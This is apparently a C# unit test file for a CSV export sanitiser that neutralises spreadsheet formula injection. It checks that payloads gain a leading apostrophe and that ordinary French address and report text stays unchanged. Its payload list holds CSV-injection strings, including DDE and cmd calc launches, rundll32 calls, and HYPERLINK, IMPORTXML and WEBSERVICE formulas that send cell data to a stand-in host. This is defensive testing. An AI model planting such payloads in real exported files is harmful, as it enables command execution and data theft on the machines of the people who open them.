using System.Text;
using GrcPortal.Core.Requests.Exports;

namespace GrcPortal.Core.Tests.Requests;

public sealed class FormulaGuardTests
{
    private static readonly string[] Formulas =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://mal.example?\"&A1)", "=IMPORTXML(\"http://mal.example\",\"//a\")", "=WEBSERVICE(\"http://mal.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "+1+1", "+cmd|' /C calc'!A0",
        "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "%0A=1+1", "|calc", "= 1+1", "=\t1", "=-1", "==1", "=@1", "+=1", "-=1", "@=1",
        "\u2212" + "1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹢1", "﹣1", "﹦1", "﹫1",
    ];

    private static readonly string[] Before = ["", "\t", "\r", "\n", "\r\n", " ", "  \t", "\u00a0", "\u202f", "\ufeff", "\u200b", "\u200e", "\u2060", "\u3000", "\"", "`", ";"];

    public static TheoryData<string> Payloads => new((IEnumerable<string>)[.. Formulas, .. Before.Skip(1).SelectMany(blank => Formulas[..4].Select(formula => blank + formula)), "\u202e=1+1", "\0=1+1", "\u0007=1", "\u0001\u0002@A1", "\ud800=1"]);

    [Fact]
    public void There_are_more_than_sixty_of_them() => Assert.InRange(Payloads.Count, 60, 500);

    [Theory, MemberData(nameof(Payloads))]
    public void What_could_run_is_text(string payload)
    {
        var cell = FormulaGuard.Of(payload);

        Assert.StartsWith("'", cell, StringComparison.Ordinal);
        Assert.DoesNotContain(cell, c => c is '\0' or '\u0007' or '\u202e' || char.IsSurrogate(c));
    }

    /// <summary>As it is in memory: on its way to a theory, half a character becomes the mark of one that could not be read.</summary>
    [Fact]
    public void Half_a_character_hides_no_formula() => Assert.Equal("'=1", FormulaGuard.Of("\ud800=1"));

    [Theory]
    [InlineData("12 rue des Lices")]
    [InlineData("dominique.leroux@courriel.example")]
    [InlineData("01 99 00 12 34")]
    [InlineData("Nid-de-poule, affaissement")]
    [InlineData("École « Jean-Jaurès »")]
    [InlineData("2026-000123")]
    [InlineData("🕳️ un trou")]
    [InlineData("")]
    public void Ordinary_words_stay_as_they_are(string words) => Assert.Equal(words, FormulaGuard.Of(words));

    [Theory, MemberData(nameof(Payloads))]
    public void A_line_of_a_file_holds_no_cell_that_runs_and_as_many_cells_as_were_written(string payload)
    {
        using var stream = new MemoryStream();
        using (var file = new CsvFile(stream)) file.Write([payload, "fin", null, "a;b\"c\r\nd"]);
        var line = Encoding.UTF8.GetString(stream.ToArray())[1..];

        Assert.True(line[0] is '\'' || line.StartsWith("\"'", StringComparison.Ordinal));
        Assert.EndsWith(";fin;;\"a;b\"\"c\r\nd\"\r\n", line, StringComparison.Ordinal);
    }
}
